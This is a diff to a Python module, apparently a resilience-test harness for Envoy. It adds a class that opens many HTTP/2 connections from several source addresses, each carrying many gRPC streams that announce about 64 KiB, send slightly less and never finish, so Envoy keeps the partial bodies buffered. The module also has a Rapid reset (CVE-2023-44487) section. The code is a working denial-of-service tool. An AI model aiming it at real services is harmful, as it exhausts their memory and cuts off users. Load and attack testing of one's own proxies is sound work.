@@ -511,6 +511,67 @@ def partial_message_streams(host: str, port: int, method_path: str | Sequence[st
                      source=source, read=read)
 
 
+class PartialBodies(H2Streams):
+    """`connections` HTTP/2 connections from each of `sources`, each with `per_connection` gRPC
+    calls on `method_path` whose message announces `announced` bytes and sends the first `sent`,
+    never END_STREAM: unfinished bodies that Envoy buffers whole before anything goes upstream.
+    Each connection waits for the server's SETTINGS and connection window first, so every stream's
+    bytes fit the flow-control windows (Envoy's 64 KiB a stream, 1 MiB a connection)."""
+
+    def __init__(self, host: str, port: int, method_path: str, sources: Sequence[str], connections: int,
+                 per_connection: int, *, announced: int = 65_536, sent: int = 60_000, token: str | None = None):
+        if sent >= announced:
+            raise ValueError("a partial message sends fewer bytes than it announces")
+        data = b"\x00" + struct.pack(">I", announced) + b"\x0a" * sent
+        super().__init__(host, port, method_path, 0, per_connection=per_connection, token=token, data=data)
+        self.sources, self.connections = list(sources), connections
+        self.refused = 0  # connections that could not be made
+
+    def open(self) -> None:
+        headers = grpc_headers(self.host, self.port, self.method_paths[0], self.token, self.extra)
+        needed = self.per_connection * len(self.data)
+        for source in self.sources:
+            for _ in range(self.connections):
+                try:
+                    sock = _connect(self.host, self.port, source)
+                    sock.settimeout(2.0)
+                    conn = H2Conn(sock, f"{self.host}:{self.port}")
+                    deadline = time.monotonic() + 2.0
+                    while (not conn.settings_seen.is_set() or conn.h2.outbound_flow_control_window < needed) \
+                            and time.monotonic() < deadline:
+                        data = sock.recv(65536)
+                        if not data:
+                            raise OSError("closed")
+                        conn.on_data(data)
+                except (OSError, h2.exceptions.ProtocolError):
+                    self.refused += 1
+                    continue
+                for _ in range(self.per_connection):
+                    if self._open_stream(conn, headers) is None:
+                        self.not_opened += 1
+                self._hold(conn)
+
+    def _open_stream(self, conn: H2Conn, headers: list[tuple[str, str]]) -> int | None:
+        """Like H2Conn.open_stream, with the message in frames of the largest size the server takes."""
+        with conn.lock:
+            try:
+                sid = conn.h2.get_next_available_stream_id()
+                conn.h2.send_headers(sid, headers)
+                step = conn.h2.max_outbound_frame_size
+                for i in range(0, len(self.data), step):
+                    conn.h2.send_data(sid, self.data[i:i + step])
+            except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
+                return None
+            conn.streams[sid] = Stream(self.method_paths[0], sid, time.monotonic())
+            return sid if conn.flush() else None
+
+
+def partial_bodies(host: str, port: int, method_path: str, sources: Sequence[str], connections: int,
+                   per_connection: int, **kw) -> PartialBodies:
+    """Unfinished gRPC messages of about 64 KiB from several addresses (see PartialBodies)."""
+    return PartialBodies(host, port, method_path, sources, connections, per_connection, **kw)
+
+
 # --------------------------------------------------------------------------------------------
 # Rapid reset (CVE-2023-44487)
 
